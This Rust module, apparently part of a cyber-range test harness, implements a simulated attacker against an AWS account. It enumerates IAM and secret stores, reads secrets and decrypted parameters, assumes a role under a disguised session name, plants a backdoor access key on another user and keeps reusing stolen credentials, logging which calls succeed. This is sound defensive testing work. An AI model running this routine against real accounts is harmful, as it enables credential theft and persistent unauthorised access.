//! The attacker: first quick and broad, then endless.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use jiff::Timestamp;
use serde_json::{Value, json};
use tokio::sync::watch;

use crate::aws::{AwsClient, CallError, KeyPair, xml_text};
use crate::config::{ACCOUNT, HOME_REGION, SECOND_REGION};
use crate::consumers::{Bases, Secret, use_once};
use crate::loot::{Loot, find};
use crate::scenario::{IssuerKind, Place, Scenario, Store};
use crate::stop::{pause as pause_for, stopped};

/// What the attacker did with one credential.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Misuse {
    /// When calls succeeded.
    pub successes: Vec<Timestamp>,
    /// How many calls were refused.
    pub refused: u64,
    /// Whether it was first seen after the first phase: a new value fed to the thief.
    pub late: bool,
}

impl Misuse {
    /// How many calls succeeded after a moment.
    pub fn successes_after(&self, moment: Timestamp) -> usize {
        self.successes.iter().filter(|at| **at > moment).count()
    }
}

/// What the attacker holds and has done.
#[derive(Default)]
pub(crate) struct Diary {
    /// By identity: access key id or value.
    pub(crate) misuse: BTreeMap<String, Misuse>,
    /// The key planted on another user.
    pub(crate) planted: Option<KeyPair>,
    /// The access key id of the session of the role.
    pub(crate) session: Option<KeyPair>,
    /// Containers that were read in the first phase.
    pub(crate) read: Vec<Place>,
    loot: Vec<Loot>,
    first_phase_over: bool,
}

/// The attacker of one range.
pub(crate) struct Attacker {
    client: AwsClient,
    bases: Bases,
    scenario: Arc<Scenario>,
    pub(crate) diary: Mutex<Diary>,
}

impl Attacker {
    pub(crate) fn new(client: AwsClient, bases: Bases, scenario: Arc<Scenario>) -> Self {
        Self {
            client,
            bases,
            scenario,
            diary: Mutex::default(),
        }
    }

    pub(crate) fn diary(&self) -> std::sync::MutexGuard<'_, Diary> {
        self.diary.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Both phases. `done` becomes true when the first is over.
    pub(crate) async fn run(
        self: Arc<Self>,
        pause: Duration,
        done: watch::Sender<bool>,
        mut stop: watch::Receiver<bool>,
    ) {
        tokio::select! {
            () = self.first_phase() => {}
            () = stopped(&mut stop) => return,
        }
        done.send_replace(true);
        let mut going = true;
        while going {
            tokio::select! {
                () = self.round() => {}
                () = stopped(&mut stop) => return,
            }
            going = pause_for(pause, &mut stop).await;
        }
    }

    async fn first_phase(&self) {
        self.look_around().await;
        for place in &self.scenario.read_by_key {
            self.read(&self.client, place).await;
        }
        // What the key may not read is tried too, as thieves do.
        for place in self.scenario.read_by_role.iter().take(2) {
            self.read(&self.client, place).await;
        }
        if let Some(client) = self.assume().await {
            for place in &self.scenario.read_by_role {
                self.read(&client, place).await;
            }
        }
        self.plant().await;
        self.diary().first_phase_over = true;
    }

    async fn look_around(&self) {
        let client = &self.client;
        self.note(client, client.query("sts", "GetCallerIdentity", &[]).await);
        for action in ["ListUsers", "ListRoles", "GetAccountAuthorizationDetails"] {
            self.note(client, client.query("iam", action, &[]).await);
        }
        for region in [HOME_REGION, SECOND_REGION] {
            let client = client.in_region(region);
            let listed = client
                .json("secretsmanager", "ListSecrets", &json!({}))
                .await;
            self.note(&client, listed);
            let listed = client.json("ssm", "DescribeParameters", &json!({})).await;
            self.note(&client, listed);
            let path = "/2015-03-31/functions";
            let listed = client.rest("lambda", "GET", path, String::new()).await;
            self.note(&client, listed);
        }
        self.note(client, client.rest("s3", "GET", "/", String::new()).await);
    }

    /// Writes down how a call with an AWS credential ended.
    fn note<T>(&self, client: &AwsClient, result: Result<T, CallError>) -> Option<T> {
        self.count(&client.key.id, result.is_ok());
        result.ok()
    }

    fn count(&self, identity: &str, succeeded: bool) {
        let mut diary = self.diary();
        let late = diary.first_phase_over;
        let misuse = diary
            .misuse
            .entry(identity.to_owned())
            .or_insert_with(|| Misuse {
                late,
                ..Misuse::default()
            });
        if succeeded {
            misuse.successes.push(Timestamp::now());
        } else {
            misuse.refused += 1;
        }
    }

    async fn read(&self, client: &AwsClient, place: &Place) -> bool {
        let client = client.in_region(place.region);
        let result = fetch(&client, place).await;
        let Some(text) = self.note(&client, result) else {
            return false;
        };
        let mut diary = self.diary();
        if !diary.first_phase_over && !diary.read.contains(place) {
            diary.read.push(*place);
        }
        for loot in find(&text) {
            if !diary.loot.contains(&loot) {
                diary.loot.push(loot);
            }
        }
        true
    }

    async fn assume(&self) -> Option<AwsClient> {
        let role = format!("arn:aws:iam::{ACCOUNT}:role/{}", self.scenario.role);
        let params = [
            ("RoleArn", role.as_str()),
            ("RoleSessionName", "deploy-check"),
        ];
        let result = self.client.query("sts", "AssumeRole", &params).await;
        let xml = self.note(&self.client, result)?;
        let key = KeyPair {
            id: xml_text(&xml, "AccessKeyId")?.to_owned(),
            secret: xml_text(&xml, "SecretAccessKey")?.to_owned(),
            token: xml_text(&xml, "SessionToken").map(str::to_owned),
        };
        self.diary().session = Some(key.clone());
        Some(self.client.with_key(key))
    }

    async fn plant(&self) {
        let params = [("UserName", self.scenario.planted_user)];
        let result = self.client.query("iam", "CreateAccessKey", &params).await;
        let Some(xml) = self.note(&self.client, result) else {
            return;
        };
        let text = |tag| xml_text(&xml, tag).unwrap_or_default().to_owned();
        self.diary().planted = Some(KeyPair {
            id: text("AccessKeyId"),
            secret: text("SecretAccessKey"),
            token: None,
        });
    }

    /// One round of the endless phase: read again with each AWS credential, and spend on
    /// every key that was ever found.
    async fn round(&self) {
        let (session, planted, loot) = {
            let diary = self.diary();
            (
                diary.session.clone(),
                diary.planted.clone(),
                diary.loot.clone(),
            )
        };
        for place in &self.scenario.read_by_key {
            if !self.read(&self.client, place).await {
                break;
            }
        }
        if let Some(session) = session {
            let client = self.client.with_key(session);
            for place in &self.scenario.read_by_role {
                if !self.read(&client, place).await {
                    break;
                }
            }
        }
        if let Some(planted) = planted {
            self.spend(&Loot {
                issuer: IssuerKind::AwsIam,
                secret: Secret::Pair(planted),
            })
            .await;
        }
        for loot in &loot {
            self.spend(loot).await;
        }
    }

    async fn spend(&self, loot: &Loot) {
        let result = use_once(&self.client.http, &self.bases, loot.issuer, &loot.secret, 0).await;
        self.count(loot.secret.identity(), result.is_ok());
    }
}

async fn fetch(client: &AwsClient, place: &Place) -> Result<String, CallError> {
    match place.store {
        Store::SecretsManager => {
            let input = json!({"SecretId": place.container});
            let answer = client
                .json("secretsmanager", "GetSecretValue", &input)
                .await?;
            Ok(answer["SecretString"]
                .as_str()
                .unwrap_or_default()
                .to_owned())
        }
        Store::ParameterStore => {
            let input = json!({"Name": place.container, "WithDecryption": true});
            let answer = client.json("ssm", "GetParameter", &input).await?;
            Ok(answer["Parameter"]["Value"]
                .as_str()
                .unwrap_or_default()
                .to_owned())
        }
        Store::Lambda => {
            let path = format!("/2015-03-31/functions/{}/configuration", place.container);
            let text = client.rest("lambda", "GET", &path, String::new()).await?;
            let answer: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
            Ok(answer["Environment"]["Variables"].to_string())
        }
        // Files are out of the attacker's reach.
        Store::File => Ok(String::new()),
    }
}
